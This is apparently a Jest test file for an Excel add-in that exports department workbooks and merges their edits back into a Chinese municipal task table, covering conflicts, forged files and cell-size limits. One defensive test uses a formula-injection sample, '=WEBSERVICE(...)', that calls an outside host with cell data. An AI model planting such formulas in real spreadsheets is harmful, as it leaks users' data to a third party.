/**
 * Department files through the Excel test double: export reads the task table and opens the department's
 * workbook with Excel.createWorkbook (or returns it for a download before ExcelApi 1.8); merge writes only
 * the planned cells of the task table and appends every conflict to 合并冲突, in few syncs.
 */
import ExcelJS from "exceljs";
import { CHANGE_LOG_SHEET, COLUMNS_BEFORE_PARTNERS, DEPARTMENT_INFO_SHEET, EXPORT_KEY_SHEET, columnIndex, ColumnKey, dayFromIso, letterOf, MERGE_LOG_HEADERS, MERGE_LOG_SHEET, parseTable, serialFromDay, SHEETS, TABLE_HEADERS, TASK_COLUMNS } from "../../src/core";
import { createExcelActions } from "../../src/taskpane/excel/actions";
import { startChangeLog } from "../../src/taskpane/excel/changeLog";
import { detectFeatures } from "../../src/taskpane/excel/requirements";
import { readDepartmentWorkbook } from "../../src/xlsx/readWorkbook";
import { FakeOptions, FakeWorkbook, SheetModel } from "../doubles/fakeExcel";
import { HOSTILE_DEPARTMENT_FILES } from "../doubles/hostileWorkbooks";
import { asWrittenBeforePartners } from "../doubles/olderLayout";
import { seedText } from "../doubles/seedVariants";
import { soilEvaluator } from "../doubles/soilEvaluator";

const AS_OF = dayFromIso("2018-12-20")!;
const EXPORTED = dayFromIso("2018-12-01")!;
const col = (key: ColumnKey) => columnIndex(key);

async function populated(options: FakeOptions = {}) {
  const book = new FakeWorkbook({ evaluator: soilEvaluator, ...options });
  const opened: string[] = [];
  const actions = createExcelActions(book.run, detectFeatures(book.isSetSupported), {
    createWorkbook: async (base64) => {
      opened.push(base64);
    },
  });
  await actions.populate(parseTable(seedText()), AS_OF);
  const tasks = book.sheet(SHEETS.tasks)!;
  return { book, actions, tasks, opened };
}

function rowOf(sheet: SheetModel, id: string): number {
  for (let r = 2; r <= sheet.lastRow(); r++) if (sheet.cell(r, 0)?.value === id) return r;
  throw new Error(`no row ${id}`);
}

/** What a department does with its file in Excel: sorts it, fills in cells, edits one it should not. */
async function departmentEdits(bytes: Uint8Array, edit: (rowOf: (id: string) => ExcelJS.Row, sheet: ExcelJS.Worksheet) => void): Promise<Uint8Array> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes as unknown as ArrayBuffer);
  const sheet = book.getWorksheet(SHEETS.tasks)!;
  edit((id) => {
    for (let r = 2; r <= sheet.rowCount; r++) if (sheet.getRow(r).getCell(1).value === id) return sheet.getRow(r);
    throw new Error(`no row ${id}`);
  }, sheet);
  return new Uint8Array(await book.xlsx.writeBuffer());
}

test("export opens the department's rows as a new workbook (ExcelApi 1.8)", async () => {
  const { book, actions, tasks, opened } = await populated();
  tasks.ensure(rowOf(tasks, "1.1"), col("notes")).value = "已部署";
  const syncs = book.syncCount;
  const result = await actions.exportDepartmentFile("市环保局", EXPORTED);
  expect(result).toEqual({ kind: "opened", department: "市环境保护局", rows: 101 });
  // The table check (with the sheet names), header + row count, one block of 195 rows, the signing key
  // (created: the populated workbook had none).
  expect(book.syncCount - syncs).toBe(4);
  // The key that signs exports is in a very hidden sheet of the workbook.
  expect(book.sheet(EXPORT_KEY_SHEET)?.visibility).toBe("VeryHidden");
  expect(opened).toHaveLength(1);
  const file = await readDepartmentWorkbook(Buffer.from(opened[0], "base64"));
  expect(file.department).toBe("市环境保护局");
  expect(file.exportedOn).toBe(EXPORTED);
  expect(file.table.rows).toHaveLength(101);
  expect(file.table.rows[0].slice(0, 1)).toEqual(["1.1"]);
  expect(file.baseline.get("1.1")?.notes).toBe("已部署");
});

test("before ExcelApi 1.8 the file comes back as bytes for a download", async () => {
  const { actions, opened } = await populated({ apiVersion: "1.7" });
  const result = await actions.exportDepartmentFile("市农牧局", EXPORTED);
  expect(opened).toEqual([]);
  if (result.kind !== "download") throw new Error(result.kind);
  expect(result).toMatchObject({ department: "市农牧局", rows: 44, fileName: "SOIL-市农牧局.xlsx" });
  expect((await readDepartmentWorkbook(result.bytes)).table.rows).toHaveLength(44);
});

test("merge writes the department's cells, keeps the office's in a conflict, logs what it did not merge", async () => {
  const { book, actions, tasks, opened } = await populated();
  await actions.exportDepartmentFile("市环境保护局", EXPORTED);
  const exported = new Uint8Array(Buffer.from(opened[0], "base64"));
  const returned = await departmentEdits(exported, (row, sheet) => {
    // Sorted by 进展情况 descending, say: two rows trade places.
    const a = row("1.1");
    const b = row("1.3");
    for (let c = 1; c <= col("extensionDecision") + 1; c++) {
      const v = a.getCell(c).value;
      a.getCell(c).value = b.getCell(c).value;
      b.getCell(c).value = v;
    }
    row("1.1").getCell(col("progress") + 1).value = "推进中";
    row("1.1").getCell(col("notes") + 1).value = "=已完成详查方案";
    row("1.3").getCell(col("lastFeedback") + 1).value = new Date(Date.UTC(2018, 11, 10));
    row("2.2").getCell(col("notes") + 1).value = "部门填写";
    row("1.1").getCell(col("deadlineRaw") + 1).value = "2020年底";
    // A row of 市农牧局 only, copied in and filled.
    const extra = sheet.getRow(sheet.rowCount + 1);
    extra.getCell(1).value = "5.2";
    extra.getCell(col("progress") + 1).value = "已完成";
  });
  // The office typed into 2.2 after the export.
  const r22 = rowOf(tasks, "2.2");
  tasks.ensure(r22, col("notes")).value = "办公室填写";
  const before = new Map(Array.from({ length: 195 }, (_, i) => [i + 2, TASK_COLUMNS.map((_, c) => tasks.cell(i + 2, c)?.value ?? null)]));
  const syncs = book.syncCount;
  const calculations = book.calculations.length;

  const outcome = await actions.mergeDepartmentFile(returned, "SOIL-市环境保护局.xlsx");

  expect(outcome.plan.report).toMatchObject({ rowsInFile: 102, rowsMatched: 101, applied: 3, conflicts: 1, rejected: 1, ignored: 1 });
  expect(outcome.lines[0]).toContain("更新 3 个单元格");
  // Table check + 合并冲突 lookup, header + row count, one block of 195 rows, the signing key, the writes
  // (calculation suspended), the recalculation, the new 合并冲突's font and page layout: 7 syncs.
  expect(book.syncCount - syncs).toBe(7);
  expect(book.calculations.slice(calculations)).toEqual(["Full"]);
  const r11 = rowOf(tasks, "1.1");
  const r13 = rowOf(tasks, "1.3");
  expect(tasks.cell(r11, col("progress"))?.value).toBe("推进中");
  // Text stays text: the "@" column keeps "=…" from becoming a formula.
  expect(tasks.cell(r11, col("notes"))).toMatchObject({ value: "=已完成详查方案", formula: undefined });
  expect(tasks.cell(r13, col("lastFeedback"))?.value).toBe(serialFromDay(dayFromIso("2018-12-10")!));
  expect(tasks.cell(r22, col("notes"))?.value).toBe("办公室填写");
  expect(tasks.cell(r11, col("deadlineRaw"))?.value).toBe("2018年底");
  // Nothing else in the task table changed.
  const changed: string[] = [];
  for (const [r, values] of before) TASK_COLUMNS.forEach((c, i) => {
    if ((tasks.cell(r, i)?.value ?? null) !== values[i]) changed.push(`${tasks.cell(r, 0)?.value}:${c.header}`);
  });
  expect(changed.sort()).toEqual(["1.1:状态", "1.1:进展情况", "1.3:最近反馈日期"]);

  const log = book.sheet(MERGE_LOG_SHEET)!;
  expect(book.valuesOf(log, { r1: 1, r2: 1, c1: 0, c2: 6 })[0]).toEqual([...MERGE_LOG_HEADERS]);
  // Set up for printing as the portable 合并冲突 is: A4 landscape, one page wide, its header on every page.
  expect(log.pageLayout).toMatchObject({ paperSize: "A4", orientation: "Landscape", zoom: { horizontalFitToPages: 1, verticalFitToPages: 0 }, setPrintTitleRows: "$1:$1", setPrintArea: "A:G" });
  expect(book.valuesOf(log, { r1: 2, r2: 4, c1: 0, c2: 5 })).toEqual([
    ["市环境保护局", "2.2", "进展情况", "办公室填写", "部门填写", ""],
    ["市环境保护局", "5.2", "状态", "未启动", "已完成", ""],
    ["市环境保护局", "1.1", "完成时限", "2018年底", "2020年底", "2018年底"],
  ]);

  // A second merge of the same file appends to 合并冲突 and changes nothing more.
  const again = await actions.mergeDepartmentFile(returned, "SOIL-市环境保护局.xlsx");
  expect(again.plan.report).toMatchObject({ applied: 0, sameValue: 3, conflicts: 1 });
  expect(book.valuesOf(log, { r1: 5, r2: 7, c1: 1, c2: 1 })).toEqual([["2.2"], ["5.2"], ["1.1"]]);
});

test("a file that is not a department file is a Chinese user error, nothing written", async () => {
  const { book, actions } = await populated();
  const calls = book.calls.length;
  await expect(actions.mergeDepartmentFile(new TextEncoder().encode("不是工作簿"), "x.xlsx")).rejects.toThrow("不是 .xlsx 工作簿");
  expect(book.calls.slice(calls).filter((c) => c.member === "values")).toEqual([]);
});

test.each(["1.17", "1.9"])("merge on a protected 任务清单 (department columns open) while the change log runs: written, and not logged as anyone's edit (ExcelApi %s)", async (apiVersion) => {
  // Before ExcelApi 1.14 events carry no triggerSource: the merge registers the cells it writes.
  const { book, actions, tasks, opened } = await populated({ apiVersion });
  const features = detectFeatures(book.isSetSupported);
  const problems: string[] = [];
  const log = (await startChangeLog(book.run, features, { now: () => new Date(2018, 11, 20, 9), today: () => AS_OF }, (m) => problems.push(m)))!;
  await actions.exportDepartmentFile("市农牧局", EXPORTED);
  const returned = await departmentEdits(new Uint8Array(Buffer.from(opened[0], "base64")), (row) => {
    row("5.2").getCell(col("notes") + 1).value = "已完成耕地详查";
    row("5.2").getCell(col("lastFeedback") + 1).value = new Date(Date.UTC(2018, 11, 12));
  });
  await actions.protectTaskSheet({ password: "pw" });
  const outcome = await actions.mergeDepartmentFile(returned, "市农牧局.xlsx");
  expect(outcome.plan.updates).toHaveLength(2);
  await book.settleEvents();
  await log.idle();
  expect(tasks.protected).toBe(true);
  expect(tasks.cell(rowOf(tasks, "5.2"), col("notes"))?.value).toBe("已完成耕地详查");
  // The department's own feedback date stands: the merge is no edit that dates feedback "today".
  expect(tasks.cell(rowOf(tasks, "5.2"), col("lastFeedback"))?.value).toBe(serialFromDay(dayFromIso("2018-12-12")!));
  expect(book.sheet(CHANGE_LOG_SHEET)).toBeUndefined();
  expect(problems).toEqual([]);
  await log.stop();
});

test("a file whose 导出信息 was edited (another department named) is refused, nothing written; a file named after another department is merged with a warning", async () => {
  const { book, actions, opened } = await populated();
  await actions.exportDepartmentFile("市环境保护局", EXPORTED);
  const exported = new Uint8Array(Buffer.from(opened[0], "base64"));
  const forged = new ExcelJS.Workbook();
  await forged.xlsx.load(exported as unknown as ArrayBuffer);
  forged.getWorksheet(DEPARTMENT_INFO_SHEET)!.getCell(2, 2).value = "市农牧局";
  const forgedBytes = new Uint8Array(await forged.xlsx.writeBuffer());
  const calls = book.calls.length;
  await expect(actions.mergeDepartmentFile(forgedBytes, "SOIL-市农牧局.xlsx")).rejects.toThrow("导出信息与主表的记录不符");
  expect(book.calls.slice(calls).filter((c) => c.member === "values")).toEqual([]);
  const returned = await departmentEdits(exported, (row) => {
    row("1.1").getCell(col("notes") + 1).value = "已部署";
  });
  const outcome = await actions.mergeDepartmentFile(returned, "SOIL-市农牧局.xlsx");
  expect(outcome.lines[0]).toContain("文件名“SOIL-市农牧局.xlsx”写的是市农牧局，文件中的责任单位却是市环境保护局");
  expect(outcome.plan.updates).toHaveLength(1);
});

test.each(HOSTILE_DEPARTMENT_FILES.map((c) => [c.name, c] as const))("the pane refuses %s: a Chinese message, nothing written", async (_name, hostile) => {
  const { book, actions, opened } = await populated();
  await actions.exportDepartmentFile("市环境保护局", EXPORTED);
  const bytes = await hostile.bytes(new Uint8Array(Buffer.from(opened[0], "base64")));
  const calls = book.calls.length;
  await expect(actions.mergeDepartmentFile(bytes, hostile.file)).rejects.toThrow(hostile.refused);
  expect(book.calls.slice(calls).filter((c) => c.member === "values")).toEqual([]);
  expect(book.sheet(MERGE_LOG_SHEET)).toBeUndefined();
}, 60_000);

describe("what the merge writes stays what the department typed (issue #14)", () => {
  const WEBSERVICE = '=WEBSERVICE("http://example.com/?q="&A1)';

  /** The office reformats every 进展情况 cell as General, as Excel's Format Cells does. */
  async function reformatNotesAsGeneral(book: FakeWorkbook) {
    await book.run(async (context) => {
      const notes = letterOf("notes");
      context.workbook.worksheets.getItem(SHEETS.tasks).getRange(`${notes}2:${notes}196`).numberFormat = Array.from({ length: 195 }, () => ["General"]);
      await context.sync();
    });
  }

  test("the double enters text as Excel does: \"=…\" written into a General cell becomes a formula, into \"@\" stays text", async () => {
    const { book, tasks } = await populated();
    await reformatNotesAsGeneral(book);
    const r = rowOf(tasks, "1.1");
    expect(tasks.cell(r, col("notes"))?.numberFormat).toBe("General");
    await book.run(async (context) => {
      context.workbook.worksheets.getItem(SHEETS.tasks).getRange(`${letterOf("notes")}${r}`).values = [["=1+1"]];
      await context.sync();
    });
    expect(tasks.cell(r, col("notes"))).toMatchObject({ formula: "=1+1", value: null });
  });

  test("进展情况 reformatted as General: a department's =WEBSERVICE(…) is written as text (\"@\" in the same request)", async () => {
    const { book, actions, tasks, opened } = await populated();
    await actions.exportDepartmentFile("市农牧局", EXPORTED);
    const returned = await departmentEdits(new Uint8Array(Buffer.from(opened[0], "base64")), (row) => {
      row("5.2").getCell(col("notes") + 1).value = WEBSERVICE;
    });
    await reformatNotesAsGeneral(book);
    const calls = book.calls.length;
    const outcome = await actions.mergeDepartmentFile(returned, "SOIL-市农牧局.xlsx");
    expect(outcome.plan.updates).toHaveLength(1);
    const cell = tasks.cell(rowOf(tasks, "5.2"), col("notes"));
    expect(cell).toMatchObject({ value: WEBSERVICE, formula: undefined, numberFormat: "@" });
    // The format went in the same request as the value, just before it.
    const writes = book.calls.slice(calls).filter((c) => c.member === "numberFormat" || c.member === "values");
    const valueWrite = writes.findIndex((c) => c.member === "values");
    expect(writes[valueWrite - 1]).toMatchObject({ member: "numberFormat", args: [[["@"]]], batch: writes[valueWrite].batch, target: writes[valueWrite].target });
  });

  test("protected 任务清单 with 进展情况 reformatted as General: the formula-like text is not written but listed in 合并冲突", async () => {
    const { book, actions, tasks, opened } = await populated();
    await actions.exportDepartmentFile("市农牧局", EXPORTED);
    const returned = await departmentEdits(new Uint8Array(Buffer.from(opened[0], "base64")), (row) => {
      row("5.2").getCell(col("notes") + 1).value = WEBSERVICE;
      row("5.2").getCell(col("progress") + 1).value = "推进中";
    });
    await reformatNotesAsGeneral(book);
    await actions.protectTaskSheet({ password: "pw" });
    const before = tasks.cell(rowOf(tasks, "5.2"), col("notes"))?.value ?? null;
    const outcome = await actions.mergeDepartmentFile(returned, "SOIL-市农牧局.xlsx");
    expect(outcome.plan.updates.map((u) => u.key)).toEqual(["progress"]);
    expect(tasks.cell(rowOf(tasks, "5.2"), col("progress"))?.value).toBe("推进中");
    expect(tasks.cell(rowOf(tasks, "5.2"), col("notes"))).toMatchObject({ value: before, formula: undefined });
    const log = book.sheet(MERGE_LOG_SHEET)!;
    expect(book.valuesOf(log, { r1: 2, r2: 2, c1: 1, c2: 6 })[0]).toEqual(["5.2", "进展情况", "", WEBSERVICE, "", expect.stringContaining("已不是文本格式")]);
    expect(log.cell(2, 4)).toMatchObject({ value: WEBSERVICE, formula: undefined });
  });

  test("a 进展情况 of 40,000 characters is never sent to Excel: set aside in 合并冲突, shown shortened with a marker", async () => {
    const { book, actions, tasks, opened } = await populated();
    await actions.exportDepartmentFile("市农牧局", EXPORTED);
    const long = "进".repeat(40_000);
    const returned = await departmentEdits(new Uint8Array(Buffer.from(opened[0], "base64")), (row) => {
      row("5.2").getCell(col("notes") + 1).value = long;
      row("5.2").getCell(col("progress") + 1).value = "推进中";
    });
    const calls = book.calls.length;
    const outcome = await actions.mergeDepartmentFile(returned, "SOIL-市农牧局.xlsx");
    expect(outcome.plan.updates.map((u) => u.key)).toEqual(["progress"]);
    expect(outcome.plan.report).toMatchObject({ applied: 1, conflicts: 1 });
    expect(tasks.cell(rowOf(tasks, "5.2"), col("notes"))?.value ?? null).not.toBe(long);
    // Nothing longer than a cell holds went into any request (the double would have failed it).
    const sent = JSON.stringify(book.calls.slice(calls).map((c) => c.args));
    expect(sent).not.toContain("进".repeat(32_768));
    const log = book.sheet(MERGE_LOG_SHEET)!;
    const [id, column, , shown, , reason] = book.valuesOf(log, { r1: 2, r2: 2, c1: 1, c2: 6 })[0] as string[];
    expect([id, column]).toEqual(["5.2", "进展情况"]);
    expect(shown.length).toBeLessThanOrEqual(32_767);
    expect(shown).toMatch(/^进+……【已截断：原文 40,000 个字符，超过 Excel 单元格上限，全文见部门交回的文件】$/);
    expect(reason).toContain("部门填写的内容有 40,000 个字符，超过 Excel 单元格的上限 32,767 个字符，未写入");
  });

  test("the double refuses a text longer than 32,767 characters, as Excel does", async () => {
    const { book } = await populated();
    await expect(
      book.run(async (context) => {
        context.workbook.worksheets.getItem(SHEETS.tasks).getRange("B2").values = [["字".repeat(32_768)]];
        await context.sync();
      }),
    ).rejects.toMatchObject({ code: "InvalidArgument" });
  });
});

describe("department files follow the workbook's 单位名录, not the bundled registry (issue #13)", () => {
  // A city whose registry knows 畜牧局 as 市畜牧局 and has no 市农牧局 (the bundled registry's alias of 市农业局).
  const table = [
    TABLE_HEADERS.join("\t"),
    ["1", "市农业局", "", "（一）甲。", "要求甲。", "市农业局", "2020年底"].join("\t"),
    ["2", "市畜牧局", "", "（二）乙。", "要求乙。", "市畜牧局", "2020年底"].join("\t"),
  ].join("\n");
  const cityRegistry = { label: "某市", entries: [{ name: "市畜牧局", aliases: ["畜牧局"] }, { name: "市农业局", aliases: [] }] };

  async function city() {
    const book = new FakeWorkbook({ evaluator: soilEvaluator });
    const opened: string[] = [];
    const actions = createExcelActions(book.run, detectFeatures(book.isSetSupported), { createWorkbook: async (base64) => void opened.push(base64) });
    await actions.populate(parseTable(table, { registry: cityRegistry }), AS_OF);
    return { book, actions, tasks: book.sheet(SHEETS.tasks)!, opened };
  }

  test("export: an alias this workbook holds is accepted; one only the bundled registry holds is not", async () => {
    const { actions, opened } = await city();
    expect(await actions.exportDepartmentFile("畜牧局", EXPORTED)).toEqual({ kind: "opened", department: "市畜牧局", rows: 1 });
    expect((await readDepartmentWorkbook(Buffer.from(opened[0], "base64"))).table.rows.map((r) => r[0])).toEqual(["2.1"]);
    // In Handan's registry 市农牧局 is the body 市农业局 names; this city has no 市农牧局.
    await expect(actions.exportDepartmentFile("市农牧局", EXPORTED)).rejects.toThrow("没有责任单位为“市农牧局”");
  });

  test("merge: a row whose 责任单位 the office retyped as the workbook's alias is the department's", async () => {
    const { actions, tasks, opened } = await city();
    // The office writes the short name this workbook's 单位名录 lists as 市畜牧局's alias, then exports.
    const r = rowOf(tasks, "2.1");
    tasks.ensure(r, col("responsible")).value = "畜牧局";
    expect(await actions.exportDepartmentFile("市畜牧局", EXPORTED)).toMatchObject({ department: "市畜牧局", rows: 1 });
    const returned = await departmentEdits(Buffer.from(opened[0], "base64"), (row) => {
      row("2.1").getCell(col("notes") + 1).value = "已部署";
    });
    const outcome = await actions.mergeDepartmentFile(returned, "SOIL-市畜牧局.xlsx");
    expect(outcome.plan).toMatchObject({ rejected: [], conflicts: [], ignored: [] });
    expect(outcome.plan.report.applied).toBe(1);
    expect(tasks.cell(r, col("notes"))?.value).toBe("已部署");
  });

  test("merge: a file renamed after another body of this workbook's 单位名录 is pointed out", async () => {
    const { actions, opened } = await city();
    await actions.exportDepartmentFile("市农业局", EXPORTED);
    // 畜牧局 is 市畜牧局 here (unknown to the bundled registry): the file holds 市农业局's rows.
    const outcome = await actions.mergeDepartmentFile(Buffer.from(opened[0], "base64"), "SOIL-畜牧局.xlsx");
    expect(outcome.lines[0]).toBe("注意：文件名“SOIL-畜牧局.xlsx”写的是市畜牧局，文件中的责任单位却是市农业局（按文件中的市农业局合并，请核实）");
  });
});

test("a master written before 参与部门: export and merge work, the column after 起始日期 is never written, protection opens the department columns", async () => {
  const { book, actions, tasks, opened } = await populated();
  const partners = COLUMNS_BEFORE_PARTNERS;
  expect(tasks.cell(rowOf(tasks, "5.2"), partners)?.value).toBe("市林业局");
  asWrittenBeforePartners(book, tasks);
  // The office's own note next to the table, where 参与部门 would be.
  tasks.ensure(rowOf(tasks, "5.2"), partners).value = "办公室备注";
  await actions.exportDepartmentFile("市农牧局", EXPORTED);
  const file = await readDepartmentWorkbook(Buffer.from(opened[0], "base64"));
  // The department's file has the current layout; this master has no 参与部门 to give it.
  expect(file.table.headers[partners]).toBe("参与部门");
  expect(file.table.rows.map((r) => r[partners] ?? "")).toEqual(file.table.rows.map(() => ""));
  const returned = await departmentEdits(new Uint8Array(Buffer.from(opened[0], "base64")), (row) => {
    row("5.2").getCell(col("notes") + 1).value = "已完成耕地详查";
  });
  const outcome = await actions.mergeDepartmentFile(returned, "SOIL-市农牧局.xlsx");
  expect(outcome.plan.report).toMatchObject({ applied: 1, conflicts: 0, rejected: 0, ignored: 0 });
  expect(tasks.cell(rowOf(tasks, "5.2"), col("notes"))?.value).toBe("已完成耕地详查");
  expect(tasks.cell(rowOf(tasks, "5.2"), partners)?.value).toBe("办公室备注");
  await actions.protectTaskSheet({ password: "" });
  expect(tasks.protected).toBe(true);
  expect([col("notes"), col("responsible")].map((c) => tasks.isLocked(3, c))).toEqual([false, true]);
});
